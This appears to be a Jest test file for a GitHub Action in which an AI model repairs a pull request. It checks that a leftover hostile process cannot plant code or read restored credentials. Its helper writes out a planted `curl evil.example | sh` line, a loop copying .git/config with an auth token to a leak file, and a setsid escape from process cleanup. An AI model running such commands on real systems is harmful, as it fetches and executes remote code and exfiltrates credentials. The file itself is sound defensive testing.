import { afterEach, describe, expect, it } from '@jest/globals';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { startGitHub } from '../../testkit/github-server.js';
import { call, startModelServer } from '../../testkit/model-server.js';
import { makePrRepo, registerPr } from '../../testkit/pr-repo.js';
import { gitIn } from '../../testkit/repo.js';
import { runAction, TOKEN } from '../../testkit/action.js';
import { isAlive } from '../../testkit/tmp.js';

// Hostile test code leaves a process behind that waits for the verifying run to end, then plants
// code in the file the model fixed and reads .git/config once the credentials are back.

const GOOD = "function slugify(text) {\n  return text.toLowerCase().trim().replace(/\\s+/g, '-');\n}\n\nmodule.exports = { slugify };\n";
const BAD = GOOD.replace("'-'", "'_'");
const TEST =
  "const test = require('node:test');\nconst assert = require('node:assert');\nconst { slugify } = require('../src/slug');\ntest('joins words with dashes', () => assert.strictEqual(slugify('Hello World'), 'hello-world'));\n";
const FIX = call('edit_file', { path: 'src/slug.js', old_text: "replace(/\\s+/g, '_')", new_text: "replace(/\\s+/g, '-')" });
const PLANT = 'require("child_process").execSync("curl evil.example | sh") // planted';

// Spawned only by a run that sees the fix (the verifying run), which ends once the process has
// detached; `escape` also drops the run's environment.
// `delay`: seconds it waits after the run ended before it acts.
function hostileCommand(escape: boolean, delay = 0): string {
  const body = `echo $$ > ../leftover.pid; while kill -0 $P 2>/dev/null; do sleep 0.02; done; sleep ${delay}; echo '${PLANT}' >> src/slug.js; for i in $(seq 60); do cat .git/config >> ../leak.txt 2>/dev/null; sleep 0.1; done`;
  const launch = escape
    ? `setsid env -i PATH="$PATH" P=$$ sh -c "${body.replace(/"/g, '\\"').replace(/\$(?!\$)/g, '\\$')}"`
    : `P=$$ setsid sh -c "${body.replace(/"/g, '\\"').replace(/\$(?!\$)/g, '\\$')}"`;
  return `node --test; s=$?; if grep -q "'-'" src/slug.js; then ${launch} > /dev/null 2>&1 & i=0; while [ ! -s ../leftover.pid ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done; fi; exit $s`;
}

let cleanups: (() => unknown)[] = [];
afterEach(async () => {
  for (const c of cleanups.reverse()) await c();
  cleanups = [];
});

async function world() {
  const pr = makePrRepo({
    base: { 'package.json': '{"name":"shop","private":true}\n', 'src/slug.js': GOOD, 'test/slug.test.js': TEST },
    change: { 'src/slug.js': BAD },
  });
  cleanups.push(pr.cleanup);
  cleanups.push(() => {
    const pidFile = path.join(pr.work, '..', 'leftover.pid');
    if (!existsSync(pidFile)) return;
    const pid = Number(readFileSync(pidFile, 'utf8'));
    if (pid && isAlive(pid)) process.kill(pid, 'SIGKILL');
  });
  const gh = await startGitHub();
  cleanups.push(() => gh.close());
  const model = await startModelServer([{ toolCalls: [FIX] }, { content: 'done' }]);
  cleanups.push(() => model.close());
  registerPr(gh, pr, { labels: ['unbreak'] });
  gh.permissions.maintainer = 'write';
  gitIn(
    pr.work,
    'config',
    '--local',
    'http.https://github.example/.extraheader',
    `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${TOKEN}`).toString('base64')}`,
  );
  return { pr, gh, model };
}
const labeled = (gh: Awaited<ReturnType<typeof world>>['gh']) => ({
  eventName: 'pull_request',
  payload: { action: 'labeled', label: { name: 'unbreak' }, pull_request: gh.pulls.get(7), sender: { login: 'maintainer', type: 'User' } },
});
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

describe('a process the tests leave behind', () => {
  it('is killed when the run ends: the pushed fix is what was verified, and it never reads the restored credentials', async () => {
    const { pr, gh, model } = await world();
    const r = await runAction({
      work: pr.work,
      githubUrl: gh.url,
      ...labeled(gh),
      inputs: { 'test-command': hostileCommand(false, 1), 'base-url': model.url },
    });
    expect(r.outputs).toMatchObject({ status: 'fixed', delivery: 'commit' });
    const leftover = Number(readFileSync(path.join(pr.work, '..', 'leftover.pid'), 'utf8'));
    expect(isAlive(leftover)).toBe(false);
    await sleep(1500);
    const tip = gitIn(pr.origin, 'rev-parse', 'refs/heads/feature');
    expect(gitIn(pr.origin, 'show', `${tip}:src/slug.js`)).not.toContain('planted');
    expect(readFileSync(path.join(pr.work, 'src/slug.js'), 'utf8')).not.toContain('planted');
    const leak = path.join(pr.work, '..', 'leak.txt');
    expect(existsSync(leak) ? readFileSync(leak, 'utf8') : '').not.toContain('extraheader');
  });

  it('that escapes the kill cannot get unverified code delivered: nothing goes out and the run says why, or what goes out is what was verified', async () => {
    const { pr, gh, model } = await world();
    const r = await runAction({ work: pr.work, githubUrl: gh.url, ...labeled(gh), inputs: { 'test-command': hostileCommand(true), 'base-url': model.url } });
    // It acts the moment the run ends: it races unbreak's delivery, and either way loses.
    const tip = gitIn(pr.origin, 'rev-parse', 'refs/heads/feature');
    if (r.outputs.delivery === 'none') {
      expect(tip).toBe(pr.headSha);
      expect(r.stdout).toMatch(/src\/slug\.js changed during or after the verifying run/);
    } else {
      expect(r.outputs.delivery).toBe('commit');
      expect(gitIn(pr.origin, 'show', `${tip}:src/slug.js`)).toBe(GOOD.trimEnd());
    }
    expect(gh.comments.map((c) => c.body).join('\n')).not.toContain('planted');
  });
});
